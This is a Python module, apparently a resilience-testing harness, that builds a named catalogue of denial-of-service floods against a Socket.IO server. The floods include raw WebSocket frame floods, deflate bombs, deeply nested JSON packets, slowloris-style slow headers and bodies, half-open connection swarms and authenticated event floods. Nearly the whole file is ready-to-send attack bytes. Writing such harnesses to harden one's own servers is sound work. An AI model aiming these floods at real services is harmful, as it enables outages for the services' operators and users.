"""What an attacker sends: each flood is a script that every one of its connections goes through, over and over.

The bytes are made once, before anything is sent, so that sending them costs next to nothing.
"""

from __future__ import annotations

import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

BLOCK = 1_000_000
"""About how many bytes are handed to the kernel at once."""
SID = b"%SID%"
"""Stands for the sid of a polling session, which the attacker opens first."""
OWN_SID = "%OWN%"
"""Stands for the sid of the polling session that the same connection has opened."""
HALF_OPEN = 2_000
BODIES = 150


@dataclass(frozen=True)
class Target:
    """Whom to attack, and with what rights."""

    namespace: str
    token: str


@dataclass(frozen=True)
class Send:
    """Send this."""

    data: bytes


@dataclass(frozen=True)
class Await:
    """Wait until this has been received."""

    marker: bytes


@dataclass(frozen=True)
class Repeat:
    """Send this for ever, as fast as it is taken."""

    data: bytes


@dataclass(frozen=True)
class Drip:
    """Send a byte of this every so many seconds."""

    data: bytes
    every: float = 0.5


@dataclass(frozen=True)
class Hold:
    """Do nothing for ever."""


@dataclass(frozen=True)
class Close:
    """Close the connection, which counts as done, and begin again."""


Step = Send | Await | Repeat | Drip | Hold | Close


@dataclass(frozen=True)
class Flood:
    """A kind of flood: what one connection does, how many do it at once, and whether they read what they are sent."""

    script: list[Step]
    connections: int = 1
    reads: bool = True
    sessions: bool = field(default=False)
    """Whether `SID` in it is the sid of one polling session that all share."""


@dataclass(frozen=True)
class Kind:
    """A flood by name, with what it takes."""

    make: Callable[[Target], Flood]
    authenticated: bool = False
    deflate: bool = False
    """Whether the server must have compression on."""


def frame(opcode: int, payload: bytes, *, final: bool = True, compressed: bool = False) -> bytes:
    """A client's WebSocket frame (RFC 6455 §5.2), masked with zeros."""
    first = (0x80 if final else 0) | (0x40 if compressed else 0) | opcode
    size = len(payload)
    if size < 126:
        head = bytes((first, 0x80 | size))
    elif size < 65_536:
        head = bytes((first, 0xFE)) + size.to_bytes(2, "big")
    else:
        head = bytes((first, 0xFF)) + size.to_bytes(8, "big")
    return head + bytes(4) + payload


def text(packet: str) -> bytes:
    """An Engine.IO packet in a frame of its own."""
    return frame(1, packet.encode())


def _fill(unit: bytes) -> bytes:
    return unit * max(1, BLOCK // len(unit))


def websocket(*, deflate: bool = False) -> list[Step]:
    """The opening handshake, and the OPEN packet."""
    offer = b"Sec-WebSocket-Extensions: permessage-deflate\r\n" if deflate else b""
    request = (
        b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
        b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    )
    return [Send(request + offer + b"\r\n"), Await(b'"sid"')]


def joining(target: Target) -> str:
    """The CONNECT packet of somebody who may."""
    return f"40{target.namespace}," + json.dumps({"token": target.token})


def joined(target: Target, *, deflate: bool = False) -> list[Step]:
    """A connection that has joined the namespace."""
    return [*websocket(deflate=deflate), Send(text(joining(target))), Await(f'40{target.namespace},{{"sid"'.encode())]


def request(method: str, query: str = "", body: bytes = b"", length: int | None = None) -> bytes:
    """A request of the polling transport, whole unless `length` says that more is to come."""
    size = len(body) if length is None else length
    declared = f"Content-Type: text/plain\r\nContent-Length: {size}\r\n" if method == "POST" else ""
    line = f"{method} /socket.io/?EIO=4&transport=polling{query} HTTP/1.1\r\nHost: localhost\r\n"
    return f"{line}{declared}\r\n".encode() + body


def _streams(target: Target) -> Iterator[tuple[str, bytes]]:
    """What is sent over and over on one WebSocket, joined or not."""
    namespace = target.namespace
    empty = frame(0, b"", final=False)
    yield "fragments", _fill(frame(1, b"6", final=False) + empty * 1022 + frame(0, b""))
    yield "pings", _fill(frame(9, b""))
    yield "pongs", _fill(frame(10, b"x" * 100))
    yield "noops", _fill(text("6"))
    yield "heartbeats", _fill(text("3"))
    yield "empty messages", _fill(frame(1, b""))
    yield "empty packets", _fill(text("4"))
    yield "binary heads", text(f'450-{namespace},["x"' + ",[]" * 333_000 + "]")
    yield "nested", text(f'42{namespace},["x",' + "[" * 100_000 + "]" * 100_000 + "]")
    yield "nested CONNECT", text(f'40{namespace},{{"a":' + "[" * 100_000 + "]" * 100_000 + "}")
    yield "attachments", text(f'459-{namespace},["x"]') + frame(2, bytes(100_000)) * 8


def _compressed(packet: str) -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeeze.compress(packet.encode()) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    return frame(1, data[:-4], compressed=True)


def _question(target: Target) -> bytes:
    return text(f'42{target.namespace},7["echo","{"x" * 100_000}"]')


def _never_polls(target: Target) -> Flood:
    """Each connection opens a session of its own, asks for much, and never polls again, though it answers PINGs."""

    def posted(body: str) -> list[Step]:
        return [Send(request("POST", f"&sid={OWN_SID}", body.encode())), Await(b"ok")]

    script: list[Step] = [Send(request("GET")), Await(b'"sid"'), *posted(joining(target))]
    script += [Send(request("GET", f"&sid={OWN_SID}")), Await(b'{"sid"')]
    for number in range(9):
        script += posted(f'42{target.namespace},{number}["echo","{"x" * 100_000}"]')
    return Flood([*script, *posted("3"), Hold()], 90)


def _kinds() -> Iterator[tuple[str, Kind]]:
    for name, _ in _streams(Target("/", "")):
        yield name, Kind(lambda to, name=name: Flood([*websocket(), Repeat(dict(_streams(to))[name])]))
    yield (
        "unfinished message",
        Kind(
            lambda _: Flood(
                [*websocket(), Send(frame(1, b"4", final=False)), Repeat(_fill(frame(0, b"x", final=False)))]
            )
        ),
    )
    yield (
        "deflate bombs",
        Kind(
            lambda to: Flood(
                [
                    *websocket(deflate=True),
                    Repeat(_compressed(f'450-{to.namespace},["x"' + ",[]" * 333_000 + "]") * 200),
                ]
            ),
            deflate=True,
        ),
    )
    yield "CONNECT unknown", Kind(lambda _: Flood([*websocket(), Repeat(_fill(text("40/nowhere,{}")))]))
    yield (
        "CONNECT refused",
        Kind(lambda to: Flood([*websocket(), Repeat(_fill(text(f'40{to.namespace},{{"token":"wrong"}}')))])),
    )
    yield (
        "refused transports",
        Kind(
            lambda to: Flood(
                [*websocket(), Send(text(f'40{to.namespace},{{"token":"wrong"}}')), Await(b"44"), Close()], 32
            )
        ),
    )
    yield "handshakes", Kind(lambda _: Flood([*websocket(), Close()], 32))
    yield "half-open", Kind(lambda _: Flood([*websocket(), Hold()], HALF_OPEN))
    yield "dumb sockets", Kind(lambda _: Flood([Hold()], HALF_OPEN))
    yield (
        "slow heads",
        Kind(lambda _: Flood([Send(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: "), Drip(b"x")], HALF_OPEN)),
    )
    yield (
        "endless heads",
        Kind(
            lambda _: Flood(
                [Send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n"), Repeat(_fill(b"X-More: " + b"y" * 90 + b"\r\n"))]
            )
        ),
    )
    yield (
        "slow bodies",
        Kind(
            lambda _: Flood(
                [Send(request("POST", "&sid=%SID%", b"4" * 500_000, BLOCK)), Drip(b"x")], BODIES, sessions=True
            )
        ),
    )
    yield (
        "many bodies",
        Kind(
            lambda _: Flood([Send(request("POST", "&sid=%SID%", b"4" * 999_000, BLOCK)), Hold()], BODIES, sessions=True)
        ),
    )
    yield (
        "dripped frames",
        Kind(lambda _: Flood([*websocket(), Send(text("4" * 999_000)[:900_000]), Drip(b"4" * 90_000, 0.1)], BODIES)),
    )
    yield "polling opens", Kind(lambda _: Flood([Repeat(_fill(request("GET")))], 4))
    yield (
        "polling posts",
        Kind(
            lambda _: Flood(
                [Repeat(_fill(request("POST", "&sid=%SID%", b"\x1e".join([b"6"] * 900))))], 2, sessions=True
            )
        ),
    )
    for name in ("fragments", "pings", "noops", "binary heads", "nested", "attachments"):
        yield (
            f"joined: {name}",
            Kind(lambda to, name=name: Flood([*joined(to), Repeat(dict(_streams(to))[name])]), authenticated=True),
        )
    yield (
        "joined: deflate bombs",
        Kind(
            lambda to: Flood(
                [
                    *joined(to, deflate=True),
                    Repeat(_compressed(f'42{to.namespace},["x"' + ",[]" * 333_000 + "]") * 200),
                ]
            ),
            authenticated=True,
            deflate=True,
        ),
    )
    for name, packet in {
        "acks": '43{},1["x"]',
        "events": '42{},["x"]',
        "events with ack": '42{},7["echo","x"]',
        "large events": '42{},7["echo","' + "x" * 200_000 + '"]',
    }.items():
        yield (
            f"joined: {name}",
            Kind(
                lambda to, packet=packet: Flood([*joined(to), Repeat(_fill(text(packet.format(to.namespace))))]),
                authenticated=True,
            ),
        )
    yield (
        "joined: deaf",
        Kind(
            lambda to: Flood(
                [*joined(to), Repeat(_fill(text(f'42{to.namespace},7["echo","{"x" * 2_000}"]')))], reads=False
            ),
            authenticated=True,
        ),
    )
    yield "joined: never polls", Kind(_never_polls, authenticated=True)
    yield (
        "joined: never reads",
        Kind(
            lambda to: Flood([*joined(to), Send(_question(to) * 11), Hold()], 40, reads=False),
            authenticated=True,
        ),
    )
    yield (
        "joined: CONNECT and leave",
        Kind(
            lambda to: Flood([*websocket(), Repeat(_fill(text(joining(to)) + text(f"41{to.namespace},")))]),
            authenticated=True,
        ),
    )
    yield "joined: reconnects", Kind(lambda to: Flood([*joined(to), Close()], 32), authenticated=True)
    yield (
        "joined: attachments never whole",
        Kind(
            lambda to: Flood(
                [*joined(to), Send(text(f'459-{to.namespace},["x"]') + frame(2, bytes(100_000)) * 8), Hold()], 90
            ),
            authenticated=True,
        ),
    )


FLOODS: dict[str, Kind] = dict(_kinds())
